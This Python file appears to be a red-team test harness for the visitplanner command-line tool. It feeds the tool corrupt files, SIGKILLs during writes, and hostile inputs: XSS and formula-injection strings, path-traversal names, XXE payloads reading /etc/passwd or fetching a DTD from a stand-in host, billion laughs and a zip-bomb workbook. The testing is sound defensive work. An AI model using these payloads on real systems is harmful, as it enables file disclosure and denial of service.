"""The red-team run: attacks an unlucky or careless user could make on the command line.

    python benchmarks/redteam.py [--quick] [--only CATEGORY] [--keep DIR]

Each attack runs the real `python -m visitplanner …` in a child process, with a
timeout, on a fresh copy of the demo visit (written once by `visitplanner demo`), and
its outcome is sorted:

- clean: exit 0 with the right result, or exit 2 with one line and the visit unchanged;
- internal error: "internal error" or a traceback in the output, or an exit status
  other than 0, 1 and 2;
- lost: a visit (or backup) changed when it should not have, no longer opens or fails
  `integrity_check`, data missing, or a file reported written that cannot be read back;
- hang: the timeout was reached, or the child's peak memory passed 500 MB
  (`ru_maxrss` of the child, through `os.wait4`);
- other: neither clean nor harmful, e.g. a refusal in more than one line.

One function per category; each returns its `Attack` records. Prints the table
(category, tried, clean, internal error, lost, hang, other) and every attack that was
not clean with its command and output; exits 1 if any of the last four columns is not 0.
`--quick` runs a few attacks per category (under two minutes on two cores).
"""

from __future__ import annotations

import argparse
import csv
import email
import email.policy
import hashlib
import io
import json
import os
import random
import signal
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import UTC
from functools import partial
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "benchmarks"))

from bench_roster import sheet_rows, write_csv, write_xlsx  # noqa: E402

#: Above this peak memory a child counts as a hang (as the issue's import of 1.8 GB).
MEMORY_CEILING_MB = 500
TIMEOUT = 120.0
VERDICTS = ("clean", "internal", "lost", "hang", "other")


@dataclass
class Run:
    """One run of the command line, as a user sees it."""

    args: list[str]
    code: int
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float
    timed_out: bool = False

    def shown(self) -> str:
        """The command and what it said, for the report."""
        said = (self.stderr.strip() or self.stdout.strip())[:600]
        return (
            f"visitplanner {' '.join(self.args)}\n    -> exit {self.code}, "
            f"{self.seconds:.1f} s, {self.peak_mb:.0f} MB: {said}"
        )


@dataclass
class Attack:
    """One attack and what it came to."""

    category: str
    name: str
    verdict: str
    detail: str = ""


class Lab:
    """A folder of fresh visits and the command line run in it, English, with its own
    settings and crash-log folders."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.env = {**os.environ, "LANG": "en_GB.UTF-8", "LC_ALL": "en_GB.UTF-8", "LANGUAGE": ""}
        self.env["VISITPLANNER_CONFIG_DIR"] = str(folder / "config")
        self.env["XDG_STATE_HOME"] = str(folder / "state")
        self.env["XDG_CACHE_HOME"] = str(folder / "cache")
        self.env.pop("PYTHONPATH", None)
        self._count = 0
        demo = folder / "demo.visit"
        made = self.run("demo", str(demo))
        if made.code != 0:
            raise SystemExit(f"the demo could not be written:\n{made.shown()}")
        self.demo = demo.read_bytes()
        self.names_used: set[str] = set()

    def place(self, stem: str) -> Path:
        """A new empty folder for one attack."""
        self._count += 1
        place = self.folder / f"{self._count:04d}-{stem}"
        place.mkdir()
        return place

    def visit(self, stem: str = "attack") -> Path:
        """A fresh copy of the demo visit, in a folder of its own."""
        path = self.place(stem) / "v.visit"
        path.write_bytes(self.demo)
        return path

    def start(self, *args: str) -> subprocess.Popen[str]:
        """Start the command line without waiting for it."""
        return subprocess.Popen(
            [sys.executable, "-m", "visitplanner", *args],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=self.env,
            cwd=ROOT,
        )

    def run(self, *args: str, timeout: float = TIMEOUT) -> Run:
        """Run the command line to its end (or its timeout); measure its peak memory."""
        with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
            start = time.perf_counter()
            child = subprocess.Popen(
                [sys.executable, "-m", "visitplanner", *args],
                stdin=subprocess.DEVNULL,
                stdout=out,
                stderr=err,
                env=self.env,
                cwd=ROOT,
            )
            deadline = time.monotonic() + timeout
            timed_out = False
            while True:
                pid, status, usage = os.wait4(child.pid, os.WNOHANG)
                if pid:
                    break
                if time.monotonic() > deadline:
                    child.kill()
                    pid, status, usage = os.wait4(child.pid, 0)
                    timed_out = True
                    break
                time.sleep(0.01)
            child.returncode = os.waitstatus_to_exitcode(status)
            took = time.perf_counter() - start
            out.seek(0)
            err.seek(0)
            return Run(
                list(args),
                child.returncode,
                out.read().decode("utf-8", "replace"),
                err.read().decode("utf-8", "replace"),
                took,
                usage.ru_maxrss / 1024,
                timed_out,
            )


# -- judging ---------------------------------------------------------------------


def sha(path: Path) -> str | None:
    """The file's SHA-256 (None where there is no regular file)."""
    try:
        return hashlib.sha256(path.read_bytes()).hexdigest()
    except (FileNotFoundError, IsADirectoryError):
        return None


def visit_problem(path: Path) -> str | None:
    """Why the visit at `path` is no longer whole, or None."""
    try:
        conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        try:
            result = conn.execute("PRAGMA integrity_check").fetchone()[0]
        finally:
            conn.close()
    except sqlite3.Error as exc:
        return f"{path.name} no longer opens: {exc}"
    if result != "ok":
        return f"{path.name} fails integrity_check: {result}"
    from visitplanner.services.visit_files import read_visit

    try:
        read_visit(path)
    except Exception as exc:  # noqa: BLE001 - any failure to open is the finding
        return f"{path.name} no longer opens in VisitPlanner: {exc}"
    return None


def people_count(path: Path) -> int:
    """How many people the visit at `path` holds."""
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        return int(conn.execute("SELECT count(*) FROM person").fetchone()[0])
    finally:
        conn.close()


def judge(
    category: str,
    name: str,
    run: Run,
    *,
    kept: Iterable[Path] = (),
    visits: Iterable[Path] = (),
    refuse: bool = False,
    check: Callable[[], str | None] | None = None,
) -> Attack:
    """Sort one run. `kept`: files that a refusal (or, with `refuse`, any outcome) must
    leave as they were; `visits`: files that must still open whole; `refuse`: only a
    refusal is right; `check`: after exit 0, why the result is wrong (or None)."""
    kept = list(kept)
    before = getattr(run, "_kept_before", {})
    shown = run.shown()
    if run.timed_out:
        return Attack(category, name, "hang", f"timed out\n{shown}")
    if run.peak_mb > MEMORY_CEILING_MB:
        return Attack(category, name, "hang", f"{run.peak_mb:.0f} MB\n{shown}")
    said = run.stdout + run.stderr
    if "internal error" in said or "Traceback" in said or run.code not in (0, 1, 2):
        return Attack(category, name, "internal", shown)
    for path in visits:
        problem = visit_problem(path)
        if problem:
            return Attack(category, name, "lost", f"{problem}\n{shown}")
    changed = [p.name for p in kept if before.get(p) != sha(p)]
    if run.code == 2:
        if changed:
            return Attack(category, name, "lost", f"changed by a refusal: {changed}\n{shown}")
        if len(run.stderr.strip().splitlines()) != 1:
            return Attack(category, name, "other", f"not one line\n{shown}")
        return Attack(category, name, "clean", shown)
    if refuse:
        verdict = "lost" if changed else "other"
        return Attack(category, name, verdict, f"accepted, changed: {changed}\n{shown}")
    if check is not None:
        problem = check()
        if problem:
            return Attack(category, name, "lost", f"{problem}\n{shown}")
    return Attack(category, name, "clean", shown)


def run_keeping(lab: Lab, paths: Sequence[Path], *args: str, timeout: float = TIMEOUT) -> Run:
    """Run the command, remembering the SHA-256 of `paths` beforehand (for `judge`)."""
    before = {p: sha(p) for p in paths}
    run = lab.run(*args, timeout=timeout)
    run._kept_before = before  # type: ignore[attr-defined]
    return run


# -- rosters and calendars made for the attacks -----------------------------------

ROSTER_HEADER = ["Nom", "Prénom", "Fonction", "Délégation", "Téléphone"]


def roster(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    """A UTF-8 CSV roster with the header `ROSTER_HEADER`."""
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows([ROSTER_HEADER, *rows])
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def calendar(path: Path, *events: str) -> Path:
    """A calendar file holding `events` (each the lines of one VEVENT's body)."""
    body = "".join(
        "BEGIN:VEVENT\r\n"
        + ("" if event.startswith("UID:") else f"UID:redteam-{n}@example.org\r\n")
        + f"DTSTAMP:20260501T000000Z\r\n{event}END:VEVENT\r\n"
        for n, event in enumerate(events)
    )
    path.write_bytes(
        (
            "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Red team//EN\r\n"
            + body
            + "END:VCALENDAR\r\n"
        ).encode()
    )
    return path


def demo_event(kind: str) -> str:
    """The id of the demo's first event of `kind`."""
    from visitplanner.demo import build_demo

    return next(e.id for e in build_demo().events if e.kind == kind)


# -- the categories ----------------------------------------------------------------


def kills(lab: Lab, quick: bool) -> list[Attack]:
    """SIGKILL during writes: an import, an undo, an export over an older export."""
    category = "kills during writes"
    rng = random.Random(408)
    attacks = []
    sheet = lab.place("kill-sheet") / "big.csv"
    rows = 800 if quick else 3000
    write_csv(sheet, sheet_rows(rows, seed=7))
    for n in range(2 if quick else 8):
        visit = lab.visit("kill-import")
        before = people_count(visit)
        child = lab.start("import-roster", str(visit), str(sheet))
        time.sleep(rng.uniform(0.3, 2.5))
        child.send_signal(signal.SIGKILL)
        child.communicate()
        problem = visit_problem(visit)
        count = people_count(visit) if problem is None else -1
        if problem is None and count not in (before, before + rows):
            problem = f"{count} people: neither the old {before} nor the new {before + rows}"
        attacks.append(
            Attack(
                category,
                f"kill import-roster #{n}",
                "lost" if problem else "clean",
                problem or f"import-roster killed; {count} people (whole state)",
            )
        )
    for n in range(1 if quick else 3):
        visit = lab.visit("kill-undo")
        lab.run("import-roster", str(visit), str(sheet))
        before = people_count(visit)
        child = lab.start("undo", str(visit))
        time.sleep(rng.uniform(0.2, 1.5))
        child.send_signal(signal.SIGKILL)
        child.communicate()
        problem = visit_problem(visit)
        count = people_count(visit) if problem is None else -1
        if problem is None and count not in (before, before - rows):
            problem = f"{count} people after a killed undo (was {before})"
        attacks.append(
            Attack(category, f"kill undo #{n}", "lost" if problem else "clean", problem or "")
        )
    for n in range(1 if quick else 3):
        visit = lab.visit("kill-export")
        out = visit.with_name("programme.pdf")
        first = lab.run("briefing", str(visit), "-o", str(out))
        old = sha(out)
        child = lab.start("briefing", str(visit), "-o", str(out), "--lang", "uk")
        time.sleep(rng.uniform(0.2, 1.5))
        child.send_signal(signal.SIGKILL)
        child.communicate()
        now = out.read_bytes() if out.exists() else b""
        whole = now.startswith(b"%PDF") and b"%%EOF" in now[-1024:]
        ok = first.code == 0 and (sha(out) == old or whole)
        attacks.append(
            Attack(
                category,
                f"kill briefing over an older book #{n}",
                "clean" if ok else "lost",
                "" if ok else f"the older book was replaced by {len(now)} bytes of a partial one",
            )
        )
    return attacks


def _bad_files(lab: Lab, quick: bool) -> dict[str, bytes]:
    demo = lab.demo
    half = len(demo) // 2
    newer = bytearray(demo)
    newer[60:64] = (999).to_bytes(4, "big")  # user_version: a schema from the future
    corrupt = bytearray(demo)
    corrupt[4096 * 3 : 4096 * 3 + 2048] = random.Random(1).randbytes(2048)
    foreign_db = lab.place("foreign") / "other.sqlite"
    conn = sqlite3.connect(foreign_db)
    conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)")
    conn.execute("INSERT INTO notes (text) VALUES ('another program')")
    conn.commit()
    conn.close()
    files = {
        "truncated": demo[:half],
        "newer schema": bytes(newer),
        "foreign SQLite": foreign_db.read_bytes(),
        "corrupt pages": bytes(corrupt),
        "empty": b"",
        "PNG": b"\x89PNG\r\n\x1a\n" + bytes(200),
        "text": b"Programme de la visite\n" * 50,
        "header only": demo[:100],
    }
    if quick:
        files = {k: files[k] for k in ("truncated", "newer schema", "foreign SQLite")}
    return files


def bad_visit_files(lab: Lab, quick: bool) -> list[Attack]:
    """Corrupt, truncated, foreign and newer-schema files given to each command."""
    category = "corrupt/foreign/newer visit files"
    sheet = roster(lab.place("sheet") / "r.csv", [["Dupont", "Jean", "Invité", "France", ""]])
    cal = calendar(
        lab.place("cal") / "c.ics",
        "DTSTART:20260507T080000Z\r\nDTEND:20260507T090000Z\r\nSUMMARY:Point\r\n",
    )
    commands: list[tuple[str, Callable[[Path], list[str]]]] = [
        ("check", lambda v: ["check", str(v)]),
        ("export-json", lambda v: ["export-json", str(v), "-o", str(v.with_name("o.json"))]),
        ("export-ics", lambda v: ["export-ics", str(v), "-o", str(v.with_name("o.ics"))]),
        ("export-roster", lambda v: ["export-roster", str(v), "-o", str(v.with_name("o.xlsx"))]),
        ("briefing", lambda v: ["briefing", str(v), "-o", str(v.with_name("o.pdf"))]),
        ("import-roster", lambda v: ["import-roster", str(v), str(sheet)]),
        ("import-ics", lambda v: ["import-ics", str(v), str(cal)]),
        ("version", lambda v: ["version", str(v)]),
        ("changes", lambda v: ["changes", str(v)]),
        ("send-updates", lambda v: ["send-updates", str(v), "--since", "1", "-o", str(v.parent)]),
        ("history", lambda v: ["history", str(v)]),
        ("undo", lambda v: ["undo", str(v)]),
        ("redo", lambda v: ["redo", str(v)]),
        ("seating", lambda v: ["seating", str(v), "x", "--propose"]),
        ("ceremony", lambda v: ["ceremony", str(v), "x", "--place"]),
    ]
    if quick:
        commands = [
            c for c in commands if c[0] in ("check", "export-json", "import-roster", "undo")
        ]
    attacks = []
    for kind, payload in _bad_files(lab, quick).items():
        for name, args in commands:
            visit = lab.place("bad") / "v.visit"
            visit.write_bytes(payload)
            run = run_keeping(lab, [visit], *args(visit))
            outputs = [p for p in visit.parent.iterdir() if p.name.startswith("o.")]
            attack = judge(category, f"{kind} → {name}", run, kept=[visit], refuse=True)
            if attack.verdict == "clean" and outputs:
                attack = Attack(category, attack.name, "other", f"left {outputs}\n{run.shown()}")
            attacks.append(attack)
    return attacks


@dataclass
class Targets:
    """A visit with a version, and what an output may be aimed at beside it."""

    visit: Path
    other: Path
    backup: Path
    link: Path
    folder: Path
    json_file: Path

    @classmethod
    def make(cls, lab: Lab) -> Targets:
        """A fresh visit (versioned once, which backs it up) and its neighbours."""
        visit = lab.visit("outputs")
        assert lab.run("version", str(visit), "--note", "red team").code == 0
        other = visit.with_name("autre.visit")
        other.write_bytes(lab.demo)
        link = visit.with_name("programme.pdf")
        link.symlink_to(visit)
        folder = visit.with_name("dossier")
        folder.mkdir()
        json_file = visit.with_name("visit.json")
        lab.run("export-json", str(visit), "-o", str(json_file))
        backup = next(visit.parent.glob("*.backups/*.visit"))
        return cls(visit, other, backup, link, folder, json_file)

    def aims(self, quick: bool) -> dict[str, Path]:
        """What the outputs are aimed at, by name."""
        aims = {
            "the visit": self.visit,
            "another visit": self.other,
            "a backup": self.backup,
            "a link to the visit": self.link,
        }
        if not quick:
            aims |= {"a folder": self.folder, "/dev/full": Path("/dev/full")}
        return aims


def _exporting(meal: str, ceremony: str) -> list[tuple[str, Callable[[Targets, Path], list[str]]]]:
    """Every command that writes a file named by -o."""
    return [
        ("export-json", lambda t, o: ["export-json", str(t.visit), "-o", str(o)]),
        ("export-ics", lambda t, o: ["export-ics", str(t.visit), "-o", str(o)]),
        ("export-ics --per-person",
         lambda t, o: ["export-ics", str(t.visit), "--per-person", "-o", str(o)]),
        ("export-roster", lambda t, o: ["export-roster", str(t.visit), "-o", str(o)]),
        ("export-roster --accreditation",
         lambda t, o: ["export-roster", str(t.visit), "--accreditation", "--profile", "internal",
                       "-o", str(o)]),
        ("briefing", lambda t, o: ["briefing", str(t.visit), "-o", str(o)]),
        ("changes", lambda t, o: ["changes", str(t.visit), "--since", "1", "-o", str(o)]),
        ("seating", lambda t, o: ["seating", str(t.visit), meal, "-o", str(o)]),
        ("ceremony", lambda t, o: ["ceremony", str(t.visit), ceremony, "-o", str(o)]),
        ("send-updates",
         lambda t, o: ["send-updates", str(t.visit), "--since", "1", "-o", str(o)]),
        ("import-json", lambda t, o: ["import-json", str(t.json_file), "-o", str(o)]),
    ]  # fmt: skip


def outputs(lab: Lab, quick: bool) -> list[Attack]:
    """Every exporting command aimed at the visit, another visit, a backup, a link to
    the visit, a folder and /dev/full (each command on a visit of its own, so that the
    backups one command makes do not rotate out the backup another aims at)."""
    category = "outputs aimed at visits, folders, devices"
    commands = _exporting(demo_event("meal"), demo_event("ceremony"))
    if quick:
        commands = commands[:6]
    attacks = []
    for name, args in commands:
        targets = Targets.make(lab)
        kept = [targets.visit, targets.other, targets.backup]
        for what, aim in targets.aims(quick).items():
            if what == "a folder" and name in ("export-ics --per-person", "send-updates"):
                continue  # a folder is what these write into
            run = run_keeping(lab, kept, *args(targets, aim))
            attack = judge(category, f"{name} → {what}", run, kept=kept, visits=kept, refuse=True)
            if not targets.link.is_symlink() or (what == "/dev/full" and aim.is_file()):
                attack = Attack(category, attack.name, "lost", f"replaced {aim}\n{run.shown()}")
            attacks.append(attack)
    return attacks


def backups(lab: Lab, quick: bool) -> list[Attack]:
    """Eleven exports refused (aimed at the visit) leave the backup made before the
    visit's last change: a refusal changes nothing, so it should not rotate backups."""
    return [_refusals_keep_older_backups(lab, "backups kept through refusals")]


def _refusals_keep_older_backups(lab: Lab, category: str) -> Attack:
    targets = Targets.make(lab)
    first = targets.backup
    runs = [lab.run("export-ics", str(targets.visit), "-o", str(targets.visit)) for _ in range(11)]
    if any(run.code != 2 for run in runs):
        return judge(category, "11 refused exports", next(r for r in runs if r.code != 2))
    backups = sorted(first.parent.glob("*.visit"))
    if first.exists():
        return Attack(category, "11 refused exports keep the older backup", "clean")
    return Attack(
        category,
        "11 refused exports keep the older backup",
        "other",
        f"each refused `export-ics` backed the visit up first; the backup from before "
        f"`version` ({first.name}) was rotated out, {len(backups)} copies of the same state "
        f"are left\n{runs[-1].shown()}",
    )


HOSTILE: dict[str, tuple[str, str]] = {
    # name: (family name, function)
    "markup": ("<b>Dupont</b> & <script>alert(1)</script>", "Conseiller <i>spécial</i> &amp;"),
    "control characters": ("Du\x01pont\x07\x1b[31m", "Chef\x0bde\x0cbureau"),
    "U+FFFE, U+FFFF": ("Dupont\ufffe", "Conseiller\uffff"),
    "RTL override": ("\u202eTNOPUD\u202c", "Conseiller\u202e"),
    "10,000-character name": ("D" * 10_000, "Conseiller"),
    "3,000-character function": ("Dupont", "Conseiller " * 273),
    "line break in a name": ("Dupont\nDurand", "Conseiller\r\nspécial"),
    "decomposed accents": ("Dupre\u0301", "Ministre de\u0301le\u0301gue\u0301"),
    "formula =": ('=HYPERLINK("http://x";"clic")', "=1+1"),
    "formula + - @": ("+33 1 23 45", "@SUM(A1)"),
    "formula - tab CR": ("-2+3", "\tcmd"),
}


def _exports(lab: Lab, visit: Path) -> list[tuple[str, list[str], Callable[[Path], str | None]]]:
    """The exports that carry people's text, and how each is read back."""
    return [
        ("export-roster XLSX", ["export-roster", str(visit), "-o"], read_xlsx),
        ("export-roster --accreditation",
         ["export-roster", str(visit), "--accreditation", "--profile", "internal", "-o"],
         read_xlsx),
        ("export-roster CSV", ["export-roster", str(visit), "-o"], read_csv),
        ("export-ics", ["export-ics", str(visit), "--profile", "internal", "-o"], read_ics),
        ("briefing", ["briefing", str(visit), "-o"], read_pdf),
    ]  # fmt: skip


SUFFIX = {"export-roster CSV": ".csv", "export-ics": ".ics", "briefing": ".pdf"}


def read_xlsx(path: Path) -> str | None:
    """Why the workbook cannot be read back (None if it can)."""
    from openpyxl import load_workbook

    try:
        book = load_workbook(path, read_only=True)
        for sheet in book.worksheets:
            for _row in sheet.iter_rows(values_only=True):
                pass
        book.close()
    except Exception as exc:  # noqa: BLE001 - any failure to read back is the finding
        return f"{path.name} reported written but unreadable: {type(exc).__name__}: {exc}"
    return None


def read_csv(path: Path) -> str | None:
    """Why the CSV is unsafe to open in a spreadsheet: a cell that would run as a formula."""
    text = path.read_text(encoding="utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=";,\t")
    for row in csv.reader(io.StringIO(text), dialect):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                return f"a cell opens as a formula in {path.name}: {cell[:60]!r}"
    return None


def read_ics(path: Path) -> str | None:
    """Why the calendar is not one (None if icalendar parses it, lines folded)."""
    from icalendar import Calendar

    raw = path.read_bytes()
    long_lines = [line for line in raw.split(b"\r\n") if len(line) > 75]
    if long_lines:
        return f"{len(long_lines)} lines longer than 75 octets in {path.name}"
    try:
        Calendar.from_ical(raw)
    except Exception as exc:  # noqa: BLE001 - any failure to parse is the finding
        return f"{path.name} does not parse: {exc}"
    return None


def read_pdf(path: Path) -> str | None:
    """Why the PDF cannot be read back."""
    from pypdf import PdfReader

    try:
        pages = PdfReader(path).pages
        if not pages:
            return f"{path.name} has no page"
        pages[0].extract_text()
    except Exception as exc:  # noqa: BLE001 - any failure to read is the finding
        return f"{path.name} does not read: {exc}"
    return None


def hostile_text(lab: Lab, quick: bool) -> list[Attack]:
    """Hostile text through import-roster, then every export that carries it."""
    attacks = []
    values = list(HOSTILE.items())
    if quick:
        values = [
            v for v in values if v[0] in ("U+FFFE, U+FFFF", "10,000-character name", "formula =")
        ]
    for label, (family, function) in values:
        lab.names_used.update({family[:40], function[:40]})
        visit = lab.visit("hostile")
        sheet = roster(
            visit.with_name("r.csv"), [[family, "Jean", function, "France", "+33 6 00 00 00 01"]]
        )
        run = run_keeping(lab, [visit], "import-roster", str(visit), str(sheet))
        category = "hostile text (import, exports)"
        attack = judge(category, f"{label}: import-roster", run, kept=[visit], visits=[visit])
        named = "row" in run.stderr or "Jean" in run.stderr  # the row, or the person by name
        if attack.verdict == "clean" and run.code == 2 and not named:
            attack = Attack(category, attack.name, "other", f"refusal names no row\n{run.shown()}")
        attacks.append(attack)
        if run.code != 0:
            continue
        for name, args, read in _exports(lab, visit):
            out = visit.with_name(f"out-{len(attacks)}{SUFFIX.get(name, '.xlsx')}")
            export = lab.run(*args, str(out))
            read_back: Callable[[], str | None] = partial(read, out)
            cat = "CSV formula injection" if name.endswith("CSV") else category
            attacks.append(
                judge(
                    cat,
                    f"{label}: {name}",
                    export,
                    visits=[visit],
                    check=read_back,
                )
            )
    return attacks


def file_names(lab: Lab, quick: bool) -> list[Attack]:
    """People named to make per-person files escape their folder."""
    category = "per-person file names"
    names = ["../../évasion", "/etc/passwd", "..", ".", "CON", "a\\..\\b", "x" * 300, "nul\x00"]
    if quick:
        names = names[:3]
    visit = lab.visit("names")
    rows = [[name, "Jean", "Invité", "France", ""] for name in names]
    lab.names_used.update(names)
    imported = lab.run(
        "import-roster", str(visit), str(roster(visit.with_name("r.csv"), rows)), "--skip-invalid"
    )
    attacks = [judge(category, "import the names", imported, visits=[visit])]
    out = visit.parent / "calendars"
    before = set(lab.folder.rglob("*"))
    run = lab.run("export-ics", str(visit), "--per-person", "-o", str(out))

    def inside() -> str | None:
        after = set(lab.folder.rglob("*")) - before
        outside = [
            p
            for p in after
            if out not in p.parents and p != out and not p.parent.name.endswith(".backups")
        ]
        if outside:
            return f"written outside {out}: {outside[:3]}"
        if not any(out.iterdir()):
            return "no file written"
        return None

    attacks.append(judge(category, "export-ics --per-person", run, visits=[visit], check=inside))
    for root in (Path("/etc"), Path("/")):
        if (root / "évasion").exists() or (root / "évasion.ics").exists():
            attacks.append(Attack(category, "escape to " + str(root), "lost", "file written there"))
    return attacks


_XXE = {
    "external entity (file)": (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&e;</t></si></sst>'
    ),
    "billion laughs": (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
        + ']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'count="1" uniqueCount="1"><si><t>&j;</t></si></sst>'
    ),
    "external DTD (network)": (
        '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>x</t></si></sst>'
    ),
}


def _workbook_with(path: Path, part: str, payload: bytes, seed: Path) -> Path:
    with zipfile.ZipFile(seed) as book:
        parts = {info.filename: book.read(info) for info in book.infolist()}
    parts[part] = payload
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, data in parts.items():
            book.writestr(name, data)
    return path


def xml_attacks(lab: Lab, quick: bool) -> list[Attack]:
    """XXE, billion laughs and an external DTD in a roster workbook."""
    category = "XXE / billion laughs XLSX"
    from openpyxl import Workbook

    seed = lab.place("xxe") / "seed.xlsx"
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(ROSTER_HEADER)
    sheet.append(["Dupont", "Jean", "Invité", "France", ""])
    book.save(seed)
    with zipfile.ZipFile(seed) as zipped:
        has_strings = "xl/sharedStrings.xml" in zipped.namelist()
    attacks = []
    for name, xml in _XXE.items():
        visit = lab.visit("xxe")
        part = "xl/sharedStrings.xml" if has_strings else "xl/worksheets/sheet1.xml"
        bad = _workbook_with(visit.with_name("r.xlsx"), part, xml.encode(), seed)
        run = run_keeping(
            lab,
            [visit],
            "import-roster",
            str(visit),
            str(bad),
            "--delegation",
            "France",
            timeout=60,
        )

        def no_leak(v: Path = visit) -> str | None:
            if b"root:" in v.read_bytes():
                return "/etc/passwd reached the visit"
            return None

        attacks.append(judge(category, name, run, kept=[visit], visits=[visit], check=no_leak))
    return attacks


def _imported(lab: Lab, category: str, name: str, command: str, source: Path) -> Attack:
    """`command` (import-roster or import-ics) of `source` into a fresh copy of the demo:
    imported within bounds, or refused with the visit as it was."""
    visit = lab.visit(source.stem)
    run = run_keeping(lab, [visit], command, str(visit), str(source), timeout=120)
    return judge(category, name, run, kept=[visit], visits=[visit])


def oversized(lab: Lab, quick: bool) -> list[Attack]:
    """Spreadsheets and calendars far beyond any roster: refused at once or imported
    within bounds (time and memory)."""
    category = "oversized inputs"
    attacks = []
    place = lab.place("big")
    rows = 60_000 if quick else 400_000
    big = place / f"rows-{rows}.xlsx"
    write_xlsx(big, sheet_rows(rows, seed=3))
    visit = lab.visit("big")
    run = run_keeping(lab, [visit], "import-roster", str(visit), str(big), timeout=300)
    attack = judge(
        category,
        f"{rows:,}-row XLSX ({big.stat().st_size / 1e6:.1f} MB)",
        run,
        kept=[visit],
        visits=[visit],
    )
    if attack.verdict == "clean" and run.seconds > 120:
        attack = Attack(category, attack.name, "hang", f"took {run.seconds:.0f} s\n{run.shown()}")
    attack.detail += f"\n    ({run.seconds:.1f} s, {run.peak_mb:.0f} MB)"
    attacks.append(attack)
    # A workbook whose one sheet unpacks to 300 MB (a "zip bomb").
    bomb = place / "bomb.xlsx"
    with zipfile.ZipFile(big if quick else _small_book(place)) as book:
        parts = {info.filename: book.read(info) for info in book.infolist()}
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        for name, data in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                book.writestr(name, data)
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            chunk = b"<row><c><v>1</v></c></row>" * 40_000
            for _ in range(300_000_000 // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    packed = bomb.stat().st_size / 1e6
    attacks.append(
        _imported(lab, category, f"zip bomb XLSX ({packed:.1f} MB packed)", "import-roster", bomb)
    )
    # A 25 MB CSV and a 21 MB calendar.
    huge_csv = place / "huge.csv"
    with huge_csv.open("w", encoding="utf-8") as out:
        out.write(";".join(ROSTER_HEADER) + "\n")
        line = "Dupont;Jean;Invité;France;\n"
        out.write(line * (25_000_000 // len(line)))
    attacks.append(_imported(lab, category, "25 MB CSV", "import-roster", huge_csv))
    if not quick:
        huge_ics = place / "huge.ics"
        event = "DTSTART:20260507T080000Z\r\nDTEND:20260507T090000Z\r\nSUMMARY:" + "x" * 60 + "\r\n"
        calendar(huge_ics, *([event] * 150_000))
        size = f"{huge_ics.stat().st_size / 1e6:.0f} MB calendar"
        attacks.append(_imported(lab, category, size, "import-ics", huge_ics))
        one_cell = place / "cell.csv"
        one_cell.write_text(
            ";".join(ROSTER_HEADER) + "\nDupont;" + "J" * 5_000_000 + ";x;France;\n"
        )
        attacks.append(_imported(lab, category, "a 5 MB cell", "import-roster", one_cell))
    return attacks


def _small_book(place: Path) -> Path:
    path = place / "small.xlsx"
    write_xlsx(path, sheet_rows(3, seed=1))
    return path


ABSURD = {
    "year 1": "DTSTART:00010101T000000\r\nDTEND:00010101T010000\r\n",
    "a duration of 270,000 years": "DTSTART:20260507T080000Z\r\nDURATION:P99999999D\r\n",
    "an end in 9999": "DTSTART:20260507T080000Z\r\nDTEND:99991231T235959Z\r\n",
    "an end before the start": "DTSTART:20260507T100000Z\r\nDTEND:20260507T080000Z\r\n",
    "month 13": "DTSTART:20261307T100000Z\r\nDTEND:20261307T110000Z\r\n",
    "a negative duration": "DTSTART:20260507T080000Z\r\nDURATION:-P1D\r\n",
    "all-day in year 0": "DTSTART;VALUE=DATE:00000101\r\n",
    "a zone that does not exist": (
        "DTSTART;TZID=Mars/Olympus:20260507T080000\r\nDTEND;TZID=Mars/Olympus:20260507T090000\r\n"
    ),
}


def absurd_dates(lab: Lab, quick: bool) -> list[Attack]:
    """Impossible or absurd dates in an imported calendar: refused with the line."""
    category = "absurd ICS dates"
    attacks = []
    items = list(ABSURD.items())[: 3 if quick else None]
    for name, lines in items:
        visit = lab.visit("dates")
        good = (
            "DTSTART:20260507T080000Z\r\nDTEND:20260507T090000Z\r\nSUMMARY:Point de situation\r\n"
        )
        cal = calendar(visit.with_name("c.ics"), good, lines + "SUMMARY:Absurde\r\n")
        run = run_keeping(lab, [visit], "import-ics", str(visit), str(cal))

        def said_where(r: Run = run) -> str | None:
            if "line" not in r.stdout + r.stderr:
                return "accepted without naming the line of the absurd event"
            return None

